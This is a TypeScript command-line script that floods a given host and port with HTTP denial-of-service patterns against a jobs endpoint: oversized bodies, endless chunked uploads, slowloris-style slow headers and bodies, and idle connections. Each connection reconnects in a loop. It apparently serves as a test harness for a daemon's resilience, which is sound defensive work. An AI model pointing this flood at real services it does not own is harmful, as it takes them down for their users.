import type { Socket } from 'node:net';
import { connect } from 'node:net';
import { constants, setPriority } from 'node:os';

/** What strangers do to a daemon's port, over and over, until they are stopped: `flood.ts HOST PORT WAY COUNT`. */
type Way = 'post' | 'endless' | 'slow-body' | 'slow-head' | 'silent';

const bodyBytes = 4 * 1024 * 1024;
const dribbleMs = 500;
const againMs = 250;
/** They do not all begin in the same millisecond. */
const beginMs = 2;
const chunk = Buffer.alloc(65_536, 0x20);

const [host = '', port = '', way = '', count = ''] = process.argv.slice(2);

const head = (...headers: readonly string[]): string =>
  ['POST /api/v1/jobs HTTP/1.1', 'Host: x', 'Content-Type: application/json', ...headers, '', ''].join('\r\n');

/** Sends as fast as it is read. */
function pour(socket: Socket, bytes: number, frame: (data: Buffer) => Buffer): void {
  let left = bytes;
  const more = (): void => {
    while (left > 0 && socket.writable) {
      left -= chunk.length;
      if (!socket.write(frame(chunk))) {
        socket.once('drain', more);
        return;
      }
    }
  };
  more();
}

function dribble(socket: Socket, first: string, rest: string): void {
  socket.write(first);
  const timer = setInterval(() => socket.write(rest), dribbleMs);
  socket.once('close', () => {
    clearInterval(timer);
  });
}

const framed = (data: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`${data.length.toString(16)}\r\n`), data, Buffer.from('\r\n')]);

const ways: Readonly<Record<Way, (socket: Socket) => void>> = {
  post: (socket) => {
    socket.write(head(`Content-Length: ${bodyBytes}`));
    pour(socket, bodyBytes, (data) => data);
  },
  endless: (socket) => {
    socket.write(head('Transfer-Encoding: chunked'));
    pour(socket, Infinity, framed);
  },
  'slow-body': (socket) => {
    dribble(socket, head('Content-Length: 100000'), ' ');
  },
  'slow-head': (socket) => {
    dribble(socket, 'POST /api/v1/jobs HTTP/1.1\r\n', 'X-More: 1\r\n');
  },
  silent: () => undefined,
};

function attack(start: (socket: Socket) => void): void {
  const socket = connect(Number(port), host, () => {
    start(socket);
  });
  // Who posts has done so when there is an answer, and begins again.
  socket.on('data', () => {
    if (way === 'post') socket.end();
  });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    setTimeout(() => {
      attack(start);
    }, againMs);
  });
}

// Strangers have machines of their own: theirs is not to take the daemon's processor.
setPriority(constants.priority.PRIORITY_LOW);
for (let each = 0; each < Number(count); each += 1) {
  setTimeout(() => {
    attack(ways[way as Way]);
  }, each * beginMs);
}
process.stdout.write('{"ready":true}\n');
